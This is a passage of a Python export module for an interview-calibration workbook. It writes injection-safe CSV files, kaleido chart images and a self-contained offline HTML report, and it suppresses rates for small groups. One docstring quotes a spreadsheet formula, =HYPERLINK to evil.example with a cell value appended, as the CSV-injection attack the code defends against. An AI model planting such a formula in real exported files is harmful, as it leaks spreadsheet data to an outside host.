"""Export tables and charts: safe CSV, static images, standalone HTML and a one-file report.

Hiring leads carry the workbook's findings into documents, slides and e-mails. This module writes
what they carry, for any tables (tidy data frames) and any plotly figures, and knows nothing about
the calibration statistics themselves:

- :func:`write_tables` writes ``<name>.csv`` in UTF-8, every text cell neutralized against CSV
  (formula) injection (:func:`safe_csv_frame`), refusing identifying columns (candidate ids, notes);
- :func:`write_figures` writes PNG, SVG and PDF through kaleido with one headless Chromium for the
  whole batch, and a standalone HTML file per chart (plotly.js inlined, works offline);
- :func:`write_index_html` writes ``index.html``: every chart interactive, the tables, the data
  period, counts and criterion, and a reading guide per chart, in one self-contained file with no
  request to any network, every piece of user text escaped;
- :func:`mark_small_groups` blanks rates computed from fewer than ``min_n`` interviews, so an
  exported table never gives a precise rate that identifies people;
- :func:`write_report` runs the above for a set of formats, and :func:`files_table` lists what was
  written with sizes, for the closing note.

Examples
--------
>>> import pandas as pd, plotly.express as px
>>> from analysis.reports.export import write_report, files_table
>>> tables = {"topic_stats": pd.DataFrame({"topic": ["cost"], "n": [12], "auc": [0.71]})}
>>> figures = {"topics": px.bar(tables["topic_stats"], x="topic", y="auc")}
>>> paths = write_report("reports", tables=tables, figures=figures,
...                      formats=("csv", "html"), title="Calibration")  # doctest: +SKIP
>>> files_table(paths, "reports")  # doctest: +SKIP
"""

from __future__ import annotations

import asyncio
import html
import math
import numbers
import os
import re
import threading
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path

import numpy as np
import pandas as pd

from analysis.io.files import atomic_write

__all__ = [
    "CSV_TRIGGERS",
    "FORMATS",
    "IMAGE_FORMATS",
    "PRIVATE_COLUMNS",
    "ExportError",
    "MissingBrowserError",
    "BROWSER_HELP",
    "ExportPanel",
    "neutralize_csv_cell",
    "safe_csv_frame",
    "mark_small_groups",
    "SMALL_GROUP",
    "INTERVIEWER_RATE_COLUMNS",
    "suppress_small_interviewers",
    "parse_formats",
    "write_tables",
    "round_table",
    "write_figures",
    "write_index_html",
    "write_report",
    "files_table",
    "format_size",
]

#: First characters that make a spreadsheet read a cell as a formula or control sequence (OWASP,
#: "CSV Injection": equals, plus, minus, at, tab 0x09, carriage return 0x0D).
CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: What the first visible character of a formula is (after leading whitespace and invisibles).
_FORMULA_STARTS = frozenset("=+-@")
#: Static image formats rendered by kaleido.
IMAGE_FORMATS = ("png", "svg", "pdf")
#: Every format :func:`write_report` knows, in the order it writes them.
FORMATS = ("csv", "png", "svg", "pdf", "html")
#: Columns that identify a candidate or carry free text about them; :func:`write_tables` refuses
#: a table holding one unless told ``allow_private=True``.
PRIVATE_COLUMNS = ("candidate_id", "candidate", "notes", "note", "interview_id")

_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9_-]{0,99}")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


class ExportError(RuntimeError):
    """An export could not be written (bad name, missing browser, identifying column, ...)."""


class MissingBrowserError(ExportError):
    """Static images need Chrome or Chromium and none was found.

    Attributes ``paths`` (files written before the images were attempted, by
    :func:`write_report`) and ``skipped`` (the image formats not written).
    """

    paths: list = []
    skipped: tuple = ()


#: What to tell a user without Chromium (kaleido renders PNG, SVG and PDF in a headless browser).
BROWSER_HELP = ("install Debian's chromium (sudo apt-get install chromium), or, where the internet is reachable, "
                "run kaleido's own installer `kaleido_get_chrome` (in the virtualenv's bin/); "
                "or set BROWSER_PATH to a Chrome/Chromium binary")


# ----------------------------------------------------------------------------------------------
# CSV safety
# ----------------------------------------------------------------------------------------------

def _ignorable(ch: str) -> bool:
    """A character a spreadsheet may skip before it looks for a formula: whitespace of any kind
    (space, tab, newline, no-break space, ideographic space, line/paragraph separators), control
    characters and invisible format characters (zero-width space and joiners, BOM, word joiner)."""
    return ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf", "Zs", "Zl", "Zp")


def neutralize_csv_cell(value):
    """One cell made safe to open in a spreadsheet (OWASP CSV-injection advice).

    A spreadsheet treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and a
    leading tab or carriage return can smuggle one in; a formula such as
    ``=HYPERLINK("http://evil.example/?"&A1, "click")`` can send data away or run commands when a
    hiring lead opens the file. Such a text cell gets a leading single quote, which spreadsheets
    show as plain text.

    The check is made on the first *visible* character: leading whitespace of every kind (space,
    tab, newline, no-break space), control characters and zero-width characters are skipped first,
    because spreadsheets trim some of them on import, and the character found is compared after
    Unicode compatibility folding (NFKC), so a full-width ``＝`` counts as ``=``.

    Parameters
    ----------
    value : object
        The cell. Text (``str``) is checked; anything else (int, float, bool, NaN, dates) is
        returned unchanged, so numbers stay numbers: ``-0.25`` remains ``-0.25``.

    Returns
    -------
    object
        ``"'" + value`` for text that begins with one of :data:`CSV_TRIGGERS`, or whose first
        visible character is ``=``, ``+``, ``-`` or ``@``, and that is not a plain number; else
        ``value`` unchanged.

    Notes
    -----
    Text that is exactly a plain decimal number (``"-0.25"``, ``"+3"``, ``"1e-3"``), optionally
    after ASCII spaces (``" -3"``), is left as it is: a spreadsheet reads it as that number and it
    cannot hold a formula. ``"-1+2"`` is not a plain number and is neutralized.

    Examples
    --------
    >>> neutralize_csv_cell("=1+1")
    "'=1+1"
    >>> neutralize_csv_cell(" =HYPERLINK(1)")
    "' =HYPERLINK(1)"
    >>> neutralize_csv_cell(-0.25)
    -0.25
    >>> neutralize_csv_cell("-0.25")
    '-0.25'
    """
    if not isinstance(value, str) or not value:
        return value
    if value[0] not in CSV_TRIGGERS:
        i = 0
        while i < len(value) and _ignorable(value[i]):
            i += 1
        if i == len(value) or unicodedata.normalize("NFKC", value[i])[:1] not in _FORMULA_STARTS:
            return value
        if value[:i].strip(" ") == "" and _PLAIN_NUMBER.fullmatch(value[i:]):
            return value  # " -3": a number after plain spaces
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def _is_numeric_kind(dtype) -> bool:
    if isinstance(dtype, pd.CategoricalDtype):
        return False
    try:
        kind = np.dtype(dtype).kind
    except TypeError:  # pandas extension dtypes (Int64, boolean, Float64, str, ...)
        kind = getattr(dtype, "kind", "O")
    return kind in "biufcM"


def _neutralize_series(s: pd.Series) -> pd.Series:
    if _is_numeric_kind(s.dtype):
        return s
    if isinstance(s.dtype, pd.CategoricalDtype):
        cats = s.cat.categories
        if cats.dtype.kind in "OSU" or pd.api.types.is_string_dtype(cats.dtype):
            # prefixing a quote is one-to-one, so categories stay distinct
            return s.cat.rename_categories([neutralize_csv_cell(c) for c in cats])
        return s
    if s.dtype.kind == "m":  # timedeltas print as "-1 days +..."
        s = s.astype(str)
    return s.map(neutralize_csv_cell)


def safe_csv_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names are safe to open in a spreadsheet.

    Applies :func:`neutralize_csv_cell` to every text cell (object, string and categorical columns)
    and to the column names; numeric, boolean and datetime columns are untouched, so a
    ``discrimination`` of ``-0.25`` is still the number ``-0.25`` when read back.

    Parameters
    ----------
    df : DataFrame
        Any table. The index is not touched (reset it first if it should be exported).

    Returns
    -------
    DataFrame
        Same shape, same dtypes for numeric columns.
    """
    out = df.copy()
    for i in range(out.shape[1]):
        out.isetitem(i, _neutralize_series(out.iloc[:, i]))
    out.columns = out.columns.map(
        lambda c: tuple(map(neutralize_csv_cell, c)) if isinstance(c, tuple) else neutralize_csv_cell(c))
    return out


def mark_small_groups(df: pd.DataFrame, n_col: str, rate_cols: str | Sequence[str], *,
                      min_n: int = 5) -> pd.DataFrame:
    """Blank the rates of groups too small to report, and say so.

    A pass rate of 0.33 from three interviews is not a finding about an interviewer or a topic; in
    a table that is sent around it mostly identifies the three candidates. Rows with fewer than
    ``min_n`` interviews keep their count but lose their rates (set to NaN, written as an empty
    cell), and a ``small_group`` column marks them.

    Parameters
    ----------
    df : DataFrame
        One row per group (interviewer, topic, question, ...).
    n_col : str
        Column with the number of interviews behind each row.
    rate_cols : str or sequence of str
        Columns computed from those interviews (rates, means, intervals) to blank.
    min_n : int, default 5
        Smallest group reported with its rates (the issue's "fewer than 5 interviews").

    Returns
    -------
    DataFrame
        A copy with ``rate_cols`` as float, NaN where ``n < min_n`` (or ``n`` is missing), and a
        boolean column ``small_group``.

    Raises
    ------
    KeyError
        If ``n_col`` or a rate column is missing (the message lists the columns found).
    """
    rate_cols = [rate_cols] if isinstance(rate_cols, str) else list(rate_cols)
    missing = [c for c in [n_col, *rate_cols] if c not in df.columns]
    if missing:
        raise KeyError(f"mark_small_groups: column(s) {missing} not found; "
                       f"the table has {list(map(str, df.columns))}")
    n = pd.to_numeric(df[n_col], errors="coerce")
    small = ~(n >= min_n)  # NaN counts as small
    out = df.copy()
    for c in rate_cols:
        out[c] = pd.to_numeric(out[c], errors="coerce").astype(float).mask(small.to_numpy())
    out["small_group"] = small.to_numpy(dtype=bool)
    return out


#: Smallest group whose rates any output shows (tables, charts, index.html, the explorer).
SMALL_GROUP = 5
#: Columns of ``interviewer_stats`` computed from an interviewer's interviews: blanked for small groups.
INTERVIEWER_RATE_COLUMNS = ("pass_rate", "funnel_low95", "funnel_high95", "funnel_low998", "funnel_high998",
                            "funnel_flag", "decision_agreement", "decision_kappa", "severity", "severity_se",
                            "severity_low", "severity_high")


def suppress_small_interviewers(interviewer_stats: pd.DataFrame, *, min_n: int = SMALL_GROUP) -> pd.DataFrame:
    """The one privacy rule for interviewers, shared by every output.

    An interviewer with fewer than ``min_n`` interviews keeps the count but loses every rate
    (:data:`INTERVIEWER_RATE_COLUMNS`, through :func:`mark_small_groups`); ``funnel_flag`` becomes
    empty. The CSV tables, the charts (which then draw nothing for them), ``index.html`` and the
    explorer all go through this function, so none shows what another blanks.
    """
    ivs = interviewer_stats.drop(columns=["small_group"], errors="ignore")
    flag = ivs["funnel_flag"] if "funnel_flag" in ivs else None
    cols = [c for c in INTERVIEWER_RATE_COLUMNS if c in ivs.columns and c != "funnel_flag"]
    out = mark_small_groups(ivs, "n_interviews", cols, min_n=min_n)
    if flag is not None:
        out["funnel_flag"] = flag.astype(object).where(~out["small_group"].to_numpy(), "")
    return out


# ----------------------------------------------------------------------------------------------
# Names, formats, atomic writes
# ----------------------------------------------------------------------------------------------

def _check_name(name: str, what: str) -> str:
    if not isinstance(name, str) or not _NAME.fullmatch(name):
        raise ExportError(f"{what} name {name!r} is not a safe file name: expected ASCII letters, "
                          "digits, '_' or '-' (1-100 characters, not starting with '-' or '_')")
    return name


def parse_formats(formats: str | Iterable[str]) -> tuple[str, ...]:
    """``"png,svg"`` or ``["png", "svg"]`` -> ``("png", "svg")``, checked against :data:`FORMATS`.

    Raises
    ------
    ExportError
        For an unknown format, naming it and the known ones.
    """
    items = formats.split(",") if isinstance(formats, str) else list(formats)
    out: list[str] = []
    for f in items:
        f = str(f).strip().lower().lstrip(".")
        if not f:
            continue
        if f not in FORMATS:
            raise ExportError(f"unknown format {f!r}: expected some of {', '.join(FORMATS)}")
        if f not in out:
            out.append(f)
    if not out:
        raise ExportError(f"no format given: expected some of {', '.join(FORMATS)}")
    return tuple(out)


def _atomic_write(path: Path, data: bytes | str) -> Path:
    """Write or replace one output file atomically (:func:`analysis.io.files.atomic_write`)."""
    return atomic_write(path, data, overwrite=True)


def _progress(total: int, desc: str, enabled: bool):
    from tqdm.auto import tqdm
    return tqdm(total=total, desc=desc, unit="file", disable=not enabled or total == 0,
                leave=False)


# ----------------------------------------------------------------------------------------------
# Tables
# ----------------------------------------------------------------------------------------------

def _exportable(df: pd.DataFrame) -> pd.DataFrame:
    """The frame as exported: a named index becomes columns, an unnamed one is dropped."""
    if any(n is not None for n in df.index.names):
        return df.reset_index()
    return df.reset_index(drop=True)


#: Columns whose small values matter relatively (kept to 3 significant digits, not 3 decimals).
SIGNIFICANT_COLUMNS = ("p_value", "q_value", "p", "q", "severity_lambda")


def round_table(df: pd.DataFrame, digits: int = 3) -> pd.DataFrame:
    """Every float column rounded to what it means: ``digits`` decimals (correlations, shares,
    rates, score points: nothing beyond the third decimal is real; the bootstrap moves the second),
    p- and q-values to ``digits`` significant digits. Integer, text and boolean columns are
    untouched. Rounded files are the same on every CPU and BLAS kernel (up to a value sitting on a
    rounding edge) and read at a glance."""
    out = df.copy()
    for c in out.columns:
        col = out[c]
        if not (pd.api.types.is_float_dtype(col.dtype) and not isinstance(col.dtype, pd.CategoricalDtype)):
            continue
        if str(c) in SIGNIFICANT_COLUMNS:
            v = col.to_numpy(float)
            with np.errstate(divide="ignore", invalid="ignore"):
                mag = np.where(np.isfinite(v) & (v != 0), np.floor(np.log10(np.abs(v))), 0)
            scale = 10.0 ** (digits - 1 - mag)
            out[c] = np.round(v * scale) / scale
        else:
            out[c] = col.round(digits)
    return out


def write_tables(tables: Mapping[str, pd.DataFrame], out: str | os.PathLike, *,
                 allow_private: bool = False, float_format: str | None = None,
                 digits: int | None = None) -> list[Path]:
    """Write each table as ``<out>/<name>.csv``, safe to open in a spreadsheet.

    Parameters
    ----------
    tables : mapping of str to DataFrame
        ``{"question_stats": frame, ...}``. Names become file names, so they must be plain
        (letters, digits, ``_``, ``-``).
    out : path
        Output folder, created if needed.
    allow_private : bool, default False
        Tables holding a column of :data:`PRIVATE_COLUMNS` (candidate ids, notes) are refused unless
        this is True: exported tables should not identify candidates.
    float_format : str, optional
        Passed to :meth:`DataFrame.to_csv` (e.g. ``"%.4g"``); default full precision.
    digits : int, optional
        Round every float column first with :func:`round_table` (``report`` uses 3).

    Returns
    -------
    list of Path
        The files written, in the order of ``tables``.

    Notes
    -----
    Files are RFC 4180 CSV: UTF-8 without a byte-order mark, comma-separated, CRLF line ends (so a
    cell holding a lone carriage return or newline is quoted and cannot split a row), missing values
    as empty cells. A named index (``question_id``) is written as a column; an unnamed range index
    is not written. Every text cell and header is passed through :func:`safe_csv_frame`. Each file
    is written atomically (temporary file, then rename).
    """
    out = Path(out)
    paths = []
    for name, df in tables.items():
        _check_name(name, "table")
        frame = _exportable(df)
        if digits is not None:
            frame = round_table(frame, digits)
        if not allow_private:
            bad = [c for c in frame.columns if str(c).strip().lower() in PRIVATE_COLUMNS]
            if bad:
                raise ExportError(f"table {name!r} has identifying column(s) {bad}: drop them before "
                                  "export, or pass allow_private=True if this file stays private")
        text = safe_csv_frame(frame).to_csv(index=False, lineterminator="\r\n",
                                              float_format=float_format)
        paths.append(_atomic_write(out / f"{name}.csv", text))
    return paths


# ----------------------------------------------------------------------------------------------
# Figures
# ----------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class _ImageJob:
    fig: dict
    opts: dict
    path: Path


def _figure_size(fig, width, height) -> tuple[int, int]:
    from analysis.charts.theme import defaults
    w = width or fig.layout.width or defaults.width
    h = height or fig.layout.height or defaults.height
    return int(w), int(h)


def _run_in_thread(coro_fn, *args):
    """Run ``asyncio.run(coro_fn(*args))`` in a fresh thread (works inside Jupyter's own loop)."""
    box: dict = {}

    def target():
        try:
            box["value"] = asyncio.run(coro_fn(*args))
        except BaseException as exc:  # re-raised in the caller's thread
            box["error"] = exc

    t = threading.Thread(target=target, name="export-kaleido", daemon=True)
    t.start()
    t.join()
    if "error" in box:
        raise box["error"]
    return box["value"]


async def _render_images(jobs: list[_ImageJob], tabs: int, timeout: float, bar) -> list[Path]:
    import kaleido
    from choreographer.errors import ChromeNotFoundError

    try:
        # mathjax=False: kaleido would otherwise load MathJax from a CDN, a network request
        # for nothing (the charts use no LaTeX)
        k = kaleido.Kaleido(n=tabs, timeout=timeout, mathjax=False)
    except ChromeNotFoundError as exc:
        raise MissingBrowserError(
            f"static images (png, svg, pdf) need Chromium: {BROWSER_HELP}; "
            f"the csv and html formats work without it ({exc})") from None
    async with k:
        async def one(job: _ImageJob) -> Path:
            try:
                data = await k.calc_fig(job.fig, opts=job.opts)
            except Exception as exc:  # name the file; kaleido's own message says little
                raise ExportError(f"could not render {job.path.name} with kaleido: "
                                  f"{type(exc).__name__}: {exc}") from exc
            await asyncio.to_thread(_atomic_write, job.path, data)
            bar.update(1)
            return job.path
        return list(await asyncio.gather(*(one(j) for j in jobs)))


def write_figures(figures: Mapping[str, object], out: str | os.PathLike,
                  formats: Iterable[str] = ("png", "svg", "pdf", "html"), *,
                  width: int | None = None, height: int | None = None, scale: float = 1.0,
                  progress: bool = True, tabs: int = 1, timeout: float = 120,
                  shared_plotlyjs: bool = True) -> list[Path]:
    """Write every figure in every format: ``<out>/<name>.<format>``.

    Parameters
    ----------
    figures : mapping of str to plotly Figure
        ``{"question_ranking": fig, ...}``; names become file names.
    out : path
        Output folder, created if needed.
    formats : iterable of str
        Among ``png``, ``svg``, ``pdf`` (static images through kaleido) and ``html`` (a standalone
        page per chart with plotly.js inlined, so it opens offline). ``csv`` is ignored here.
    width, height : int, optional
        Image size in CSS pixels; default the figure's own layout size, else the workbook theme's
        (``analysis.charts.theme.defaults``: 900 x 520).
    scale : float, default 1
        Multiplies the output size: a 900 x 520 chart at ``scale=2`` is an 1800 x 1040 PNG (sharp on
        slides), an SVG displayed at 1800 x 1040 and a PDF page of 1350 x 780 pt (SVG and PDF stay
        vector; 1 CSS pixel is 0.75 pt).
    progress : bool, default True
        Show a tqdm progress bar (one step per file).
    tabs : int, default 1
        Browser tabs rendering in parallel inside the one Chromium. On a two-core machine two tabs
        were no faster than one (10 charts x 3 formats took 15-21 s either way on a busy machine).
    timeout : float, default 120
        Seconds allowed for one image.
    shared_plotlyjs : bool, default True
        HTML pages load one ``plotly.min.js`` written beside them (plotly's
        ``include_plotlyjs="directory"``; :func:`write_plotlyjs`), so nine charts cost 4.8 MB of
        plotly.js, not 43 MB. ``False`` inlines plotly.js into every page (each page then opens on
        its own, e.g. as a mail attachment).

    Returns
    -------
    list of Path
        The files written: all images (figure by figure, in ``formats`` order), then the HTML pages,
        then ``plotly.min.js`` when shared.

    Raises
    ------
    ExportError
        For an unsafe name, or when static images are asked for and no Chromium is found.

    Notes
    -----
    All static images of the batch are rendered by **one** kaleido session: Chromium starts once
    (about a second) instead of once per image, which is what makes a full report take seconds.
    kaleido finds Debian's ``/usr/bin/chromium`` by itself; ``BROWSER_PATH`` overrides it. MathJax
    is disabled so the renderer makes no network request.
    """
    fmts = [f for f in parse_formats(formats) if f != "csv"]
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    for name in figures:
        _check_name(name, "figure")
    image_fmts = [f for f in fmts if f in IMAGE_FORMATS]
    jobs = []
    for name, fig in figures.items():
        if not image_fmts:
            break
        w, h = _figure_size(fig, width, height)
        spec = fig.to_dict()
        for f in image_fmts:
            jobs.append(_ImageJob(spec, {"format": f, "width": w, "height": h, "scale": scale},
                                  out / f"{name}.{f}"))
    n_html = len(figures) if "html" in fmts else 0
    paths: list[Path] = []
    with _progress(len(jobs) + n_html, "charts", progress) as bar:
        if jobs:
            paths += _run_in_thread(_render_images, jobs, max(1, min(tabs, len(jobs))), timeout, bar)
        if n_html:
            for name, fig in figures.items():
                text = fig.to_html(full_html=True, include_plotlyjs="directory" if shared_plotlyjs else True,
                                   div_id=f"chart-{name}", config={"displaylogo": False})
                paths.append(_atomic_write(out / f"{name}.html", text))
                bar.update(1)
            if shared_plotlyjs:
                paths.append(write_plotlyjs(out))
    return paths


def write_plotlyjs(out: str | os.PathLike) -> Path:
    """Write ``<out>/plotly.min.js``, the one copy of plotly.js the chart pages of a folder share.

    The chart pages are written with plotly's ``include_plotlyjs="directory"``: each loads
    ``plotly.min.js`` from its own folder, so a report carries plotly.js (4.8 MB) once instead of
    once per chart. The file is rewritten only when its content differs.
    """
    from plotly.offline import get_plotlyjs
    path = Path(out) / "plotly.min.js"
    text = get_plotlyjs()
    if path.is_file() and path.stat().st_size == len(text.encode("utf-8")) and path.read_text(encoding="utf-8") == text:
        return path
    return _atomic_write(path, text)


# ----------------------------------------------------------------------------------------------
# index.html
# ----------------------------------------------------------------------------------------------

_CSS = """
body{font-family:system-ui,-apple-system,"Segoe UI",Helvetica,Arial,sans-serif;margin:0 auto;
max-width:1100px;padding:1.5rem;color:#222;line-height:1.45}
h1{margin-bottom:.2rem} h2{margin-top:2.2rem;border-bottom:1px solid #ddd;padding-bottom:.2rem}
dl.meta{display:grid;grid-template-columns:max-content auto;gap:.2rem 1rem}
dl.meta dt{font-weight:600} dl.meta dd{margin:0}
p.guide{background:#f5f7fa;border-left:4px solid #4C9BE8;padding:.5rem .8rem}
nav ul{columns:2} .table-wrap{overflow-x:auto;max-height:32rem;overflow-y:auto}
table.data{border-collapse:collapse;font-size:.85rem}
table.data th,table.data td{border:1px solid #ddd;padding:.2rem .45rem;text-align:right}
table.data th{background:#f0f0f0;position:sticky;top:0}
.notes li{margin:.3rem 0} footer{margin-top:3rem;color:#777;font-size:.8rem}
section.brief{background:#fffbea;border:1px solid #f0d98c;border-radius:6px;padding:.2rem 1.2rem .8rem}
section.brief h2{border:0;margin-top:1rem} section.brief li{margin:.45rem 0}
section.brief .evidence{color:#666;font-size:.9em}
""".strip()


def _esc(value) -> str:
    return html.escape("" if value is None else str(value), quote=True)


def _heading(name: str) -> str:
    return name.replace("_", " ").replace("-", " ").strip().capitalize()


def _meta_value(v) -> str:
    if isinstance(v, (datetime, date, pd.Timestamp)):
        return pd.Timestamp(v).strftime("%Y-%m-%d")
    if isinstance(v, (tuple, list)) and len(v) == 2 and all(
            isinstance(x, (datetime, date, pd.Timestamp)) for x in v):
        return " to ".join(_meta_value(x) for x in v)
    if isinstance(v, numbers.Integral) and not isinstance(v, bool):
        return f"{v:,}"
    if isinstance(v, float) and math.isfinite(v):
        return f"{v:.4g}"
    return str(v)


def _cell_text(v, float_digits: int) -> str:
    if v is None or (isinstance(v, float) and math.isnan(v)) or v is pd.NA or v is pd.NaT:
        return ""
    if isinstance(v, (bool, np.bool_)):
        return "yes" if v else "no"
    if isinstance(v, numbers.Integral):
        return str(v)
    if isinstance(v, numbers.Real):
        v = float(v)
        if v != 0 and abs(v) < 10 ** -(float_digits - 1):   # tiny values (p-values): significant digits
            return f"{v:.2g}"
        return f"{v:.{float_digits - 1}f}" if abs(v) < 100 else f"{v:,.0f}"
    if isinstance(v, pd.Timestamp):
        return v.strftime("%Y-%m-%d") if v == v.normalize() else v.isoformat()
    return str(v)


def _table_html(name: str, df: pd.DataFrame, float_digits: int) -> str:
    frame = _exportable(df)
    head = "".join(f"<th scope=\"col\">{_esc(c)}</th>" for c in frame.columns)
    rows = []
    for rec in frame.itertuples(index=False, name=None):  # tables are small (one row per group)
        rows.append("<tr>" + "".join(f"<td>{_esc(_cell_text(v, float_digits))}</td>" for v in rec)
                    + "</tr>")
    return (f'<div class="table-wrap"><table class="data" id="table-{name}">'
            f"<thead><tr>{head}</tr></thead><tbody>{''.join(rows)}</tbody></table></div>")


_LOADER = """(function(){
var queue=[];
window.PlotlyConfig={MathJaxConfig:"local"};
window.Plotly={newPlot:function(){var a=arguments;return new Promise(function(ok){queue.push([a,ok]);});}};
var b64="%s";
var bytes=Uint8Array.from(atob(b64),function(c){return c.charCodeAt(0);});
var ready=function(){
  var stream=new Blob([bytes]).stream().pipeThrough(new DecompressionStream("gzip"));
  new Response(stream).text().then(function(js){
    var s=document.createElement("script");s.text=js;document.head.appendChild(s);
    queue.forEach(function(q){window.Plotly.newPlot.apply(window.Plotly,q[0]).then(q[1]);});
    queue=null;document.documentElement.setAttribute("data-plotly","ready");
  }).catch(function(e){document.documentElement.setAttribute("data-plotly","failed: "+e);
    console.error("plotly.js could not be unpacked: this browser has no DecompressionStream?",e);});
};
if(document.readyState==="loading"){document.addEventListener("DOMContentLoaded",ready);}else{ready();}
})();"""


_PACKED: dict = {}


def _compressed_plotlyjs_loader() -> str:
    """JavaScript that unpacks the inlined, gzip-compressed plotly.js and then draws every chart
    the page queued while it was unpacking (``Plotly.newPlot`` is a queueing stub until then)."""
    import base64
    import gzip

    import plotly
    from plotly.offline import get_plotlyjs
    if plotly.__version__ not in _PACKED:
        _PACKED[plotly.__version__] = base64.b64encode(
            gzip.compress(get_plotlyjs().encode("utf-8"), 9, mtime=0)).decode("ascii")
    return _LOADER % _PACKED[plotly.__version__]


def write_index_html(out: str | os.PathLike, figures: Mapping[str, object],
                     tables: Mapping[str, pd.DataFrame] | None = None, *, title: str,
                     meta: Mapping[str, object] | None = None,
                     guides: Mapping[str, str] | None = None,
                     notes: str | Sequence[str] | None = None,
                     filename: str = "index.html", float_digits: int = 3,
                     columns: Mapping[str, Sequence[str]] | None = None,
                     compress_plotlyjs: bool = True, brief: str | None = None) -> Path:
    """Write one self-contained report page: every chart interactive, the tables, the context.

    Parameters
    ----------
    out : path
        Output folder (created if needed); the page is ``<out>/index.html``.
    figures : mapping of str to plotly Figure
        Charts in the order shown. Each is embedded as a ``<div>`` with its data inline.
    tables : mapping of str to DataFrame, optional
        Tables shown after the charts, every cell and header HTML-escaped.
    title : str
        Page title and heading.
    meta : mapping, optional
        What a reader needs to trust the numbers: data period, counts, criterion, filters
        (``{"Data period": "2025-01-06 to 2026-03-30", "Interviews": 412, ...}``).
    guides : mapping of str to str, optional
        A short reading guide per chart, keyed like ``figures``: what a hiring lead should look at.
    notes : str or sequence of str, optional
        Caveats shown at the end (small groups, contamination of the criterion, ...).
    filename : str, default "index.html"
    float_digits : int, default 3
        Floats in the HTML tables get ``float_digits - 1`` decimals (``0.31``, ``-0.05``), values
        too small for that 2 significant digits (a p-value ``0.00042``), large ones none.
    columns : mapping of table name to column names, optional
        The columns a reader needs, per table, in order (the CSV keeps every column); a table not
        named is shown whole. Columns missing from a table are skipped.
    compress_plotlyjs : bool, default True
        Inline plotly.js gzip-compressed and base64-encoded (1.9 MB instead of 4.8 MB), unpacked in
        the browser by its built-in ``DecompressionStream`` (Chrome 80, Firefox 113, Safari 16.4);
        the page stays one file that opens offline. ``False`` inlines plain plotly.js.
    brief : str, optional
        HTML of a findings brief shown first (the caller escapes its text).

    Returns
    -------
    Path
        The page written.

    Notes
    -----
    plotly.js is inlined exactly once, in ``<head>`` (not at all when there is no figure); the page loads nothing else (no CDN, no web
    font, no MathJax), so it opens offline and makes no request that could leak that the report
    was opened. Every piece of text from the data or the caller (title, meta, guides, notes, table
    cells, column names) is escaped with :func:`html.escape`; figure data is embedded by plotly's
    own JSON encoder, which escapes ``<``, ``>`` and ``/``.
    """
    from plotly.offline import get_plotlyjs

    out = Path(out)
    tables = tables or {}
    guides = guides or {}
    meta = meta or {}
    for name in figures:
        _check_name(name, "figure")
    for name in tables:
        _check_name(name, "table")
    if isinstance(notes, str):
        notes = [notes]

    parts = ["<!DOCTYPE html>", '<html lang="en">', "<head>", '<meta charset="utf-8">',
             '<meta name="viewport" content="width=device-width, initial-scale=1">',
             f"<title>{_esc(title)}</title>", f"<style>{_CSS}</style>"]
    if figures:  # a tables-only page does not carry plotly.js at all
        if compress_plotlyjs:
            parts.append(f'<script type="text/javascript">{_compressed_plotlyjs_loader()}</script>')
        else:
            parts += ['<script type="text/javascript">window.PlotlyConfig = {MathJaxConfig: "local"};</script>',
                      f'<script type="text/javascript">{get_plotlyjs()}</script>']
    parts += ["</head>", "<body>", f"<h1>{_esc(title)}</h1>"]
    if brief:
        parts.append(f'<section class="brief" id="brief">{brief}</section>')
    if meta:
        parts.append('<dl class="meta">' + "".join(
            f"<dt>{_esc(k)}</dt><dd>{_esc(_meta_value(v))}</dd>" for k, v in meta.items()) + "</dl>")
    toc = [f'<li><a href="#chart-{n}">{_esc(_heading(n))}</a></li>' for n in figures]
    toc += [f'<li><a href="#table-{n}">Table: {_esc(n)}</a></li>' for n in tables]
    if toc:
        parts.append(f"<nav><h2>Contents</h2><ul>{''.join(toc)}</ul></nav>")
    for name, fig in figures.items():
        parts.append(f'<section class="chart" id="section-chart-{name}">')
        parts.append(f"<h2>{_esc(_heading(name))}</h2>")
        if guides.get(name):
            parts.append(f'<p class="guide">{_esc(guides[name])}</p>')
        parts.append(fig.to_html(full_html=False, include_plotlyjs=False, div_id=f"chart-{name}",
                                 config={"displaylogo": False, "responsive": True}))
        parts.append("</section>")
    for name, df in tables.items():
        parts.append(f'<section class="table" id="section-table-{name}">')
        parts.append(f"<h2>Table: {_esc(name)}</h2>")
        if guides.get(name):
            parts.append(f'<p class="guide">{_esc(guides[name])}</p>')
        parts.append(f"<p>{len(df):,} rows; also written as <code>{_esc(name)}.csv</code>.</p>")
        shown = df
        if columns and columns.get(name):
            frame = _exportable(df)
            keep = [c for c in columns[name] if c in frame.columns]
            shown = frame[keep] if keep else frame
            if len(keep) < frame.shape[1]:
                parts.append(f"<p>{len(keep)} of {frame.shape[1]} columns shown; the CSV has all of them.</p>")
        parts.append(_table_html(name, shown, float_digits))
        parts.append("</section>")
    if notes:
        parts.append('<section class="notes"><h2>Notes</h2><ul>'
                     + "".join(f"<li>{_esc(n)}</li>" for n in notes) + "</ul></section>")
    parts.append("<footer>Written by the interview calibration workbook "
                 "(<code>python -m analysis report</code>). Self-contained: opens offline.</footer>")
    parts += ["</body>", "</html>", ""]
    return _atomic_write(out / filename, "\n".join(parts))


# ----------------------------------------------------------------------------------------------
# Everything at once, and what was written
# ----------------------------------------------------------------------------------------------

def write_report(out: str | os.PathLike, *, tables: Mapping[str, pd.DataFrame] | None = None,
                 figures: Mapping[str, object] | None = None,
                 formats: str | Iterable[str] = FORMATS, title: str = "Interview calibration report",
                 meta: Mapping[str, object] | None = None, guides: Mapping[str, str] | None = None,
                 notes: str | Sequence[str] | None = None, progress: bool = True,
                 allow_private: bool = False, columns: Mapping[str, Sequence[str]] | None = None,
                 brief: str | None = None, table_digits: int | None = None,
                 **figure_options) -> list[Path]:
